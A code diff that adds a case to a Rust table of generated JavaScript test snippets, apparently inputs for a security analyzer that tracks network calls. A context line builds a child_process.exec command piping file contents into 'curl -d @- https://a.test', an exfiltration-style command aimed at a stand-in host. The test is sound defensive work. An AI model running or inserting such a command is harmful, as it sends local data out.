@@ -434,6 +434,16 @@ pub(crate) const CASES: &[Case] = &[
         },
     },
     Case {
+        name: "pieces of an address that are open",
+        make: |n| {
+            let pieces: String = (0..n).map(|i| format!(" + (f{i} ? 'a' : g{i} ? 'b' : 'c')")).collect();
+            body(
+                &format!("const u = new URL('https://'{pieces});\nfetch('https://' + u.hostname + u.pathname);"),
+                "'a'",
+            )
+        },
+    },
+    Case {
         name: "commands in a pipe",
         make: |n| {
             body(&format!("require('child_process').exec('{}curl -d @- https://a.test');", "cat x | ".repeat(n)), "'a'")
